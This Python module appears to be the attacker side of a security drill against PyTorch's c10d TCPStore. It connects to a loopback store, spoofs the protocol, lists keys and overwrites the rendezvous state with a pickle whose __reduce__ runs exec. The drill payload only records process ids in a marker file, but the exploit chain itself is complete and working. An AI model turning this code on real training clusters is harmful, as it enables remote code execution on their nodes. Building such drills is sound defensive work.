# SPDX-FileCopyrightText: 2026 The securetrain developers
# SPDX-License-Identifier: Apache-2.0
"""The attacker of D-RDZ-PICKLE: a raw socket and no torch.

It speaks the c10d TCPStore protocol (torch/csrc/distributed/c10d/TCPStoreBackend.hpp): a constant
magic number, then one-byte commands; strings are a 64-bit little-endian length and bytes. Nothing
in the protocol says who is speaking.
"""

import base64
import os
import pickle
import socket
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Final

_MAGIC: Final = 0x3C85F7CE
_VALIDATE, _SET, _PING, _LIST_KEYS = 0, 1, 13, 17
_STATE_KEY: Final = "torch.rendezvous."
_MAX_STRING: Final = 8 << 20
_MAX_KEYS: Final = 4096


class _MarkerPayload:
    """Unpickles to None and leaves the unpickling process's id in a marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        # The drill's whole payload: it writes one small file below the drill's work directory.
        name = str(self.marker)
        code = f"import os\nwith open({name!r}, 'a') as file: file.write(f'{{os.getpid()}} ')"
        return exec, (code,)


def marker_pickle(marker: Path) -> bytes:
    """A pickle that writes the id of the process that loads it to `marker`."""
    return pickle.dumps(_MarkerPayload(marker))


def marked_by(marker: Path) -> list[int]:
    """The ids of the processes that ran the payload."""
    return [int(pid) for pid in marker.read_text().split()] if marker.exists() else []


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What one connection achieved."""

    port: int
    connected: bool = False
    spoke_store: bool = False
    """Whether the port answered as a TCPStore."""
    keys: tuple[str, ...] = ()
    overwritten: tuple[str, ...] = ()
    answer: bytes = b""
    """What came back instead, the first bytes."""
    error: str = ""


def attack_store(port: int, marker: Path, *, run_id: str = "", timeout: float = 3.0) -> Attack:
    """Overwrite the rendezvous state in the store at a loopback port.

    Args:
        port: A TCP port on 127.0.0.1.
        marker: Where the payload leaves its mark.
        run_id: When no state is listed, the state of this run id is written instead.
        timeout: Seconds for each answer.
    """
    try:
        with socket.create_connection(("127.0.0.1", port), timeout) as peer:
            return _talk(peer, port, marker, run_id)
    except OSError as error:
        return Attack(port=port, error=f"{type(error).__name__}: {error}")


def _talk(peer: socket.socket, port: int, marker: Path, run_id: str) -> Attack:
    nonce = int.from_bytes(os.urandom(4), "little")
    expected = struct.pack("<I", nonce)
    try:
        hello = bytes([_VALIDATE]) + struct.pack("<I", _MAGIC)
        peer.sendall(hello + bytes([_PING]) + expected)
        answer = _receive(peer, len(expected))
        if answer != expected:
            return Attack(port=port, connected=True, answer=answer)
        peer.sendall(bytes([_LIST_KEYS]))
        keys = tuple(_string(peer) for _ in range(_count(peer, _MAX_KEYS)))
        targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
        if not targets and run_id:
            targets = [f"/{_STATE_KEY}{run_id}"]
        value = base64.b64encode(marker_pickle(marker))
        for key in targets:
            peer.sendall(bytes([_SET]) + _packed(key.encode()) + _packed(value))
        # The server answers in order, so an answered ping means that the value is stored.
        peer.sendall(bytes([_PING]) + expected)
        stored = _receive(peer, len(expected)) == expected
        return Attack(
            port=port,
            connected=True,
            spoke_store=True,
            keys=keys,
            overwritten=tuple(targets) if stored else (),
        )
    except OSError as error:
        return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")


def _packed(data: bytes) -> bytes:
    return struct.pack("<Q", len(data)) + data


def _receive(peer: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        part = peer.recv(size - len(data))
        if not part:
            raise ConnectionError("closed by the other side")
        data += part
    return data


def _count(peer: socket.socket, limit: int) -> int:
    (count,) = struct.unpack("<Q", _receive(peer, 8))
    if count > limit:
        raise ConnectionError(f"a length of {count}")
    return int(count)


def _string(peer: socket.socket) -> str:
    return _receive(peer, _count(peer, _MAX_STRING)).decode("utf-8", "replace")
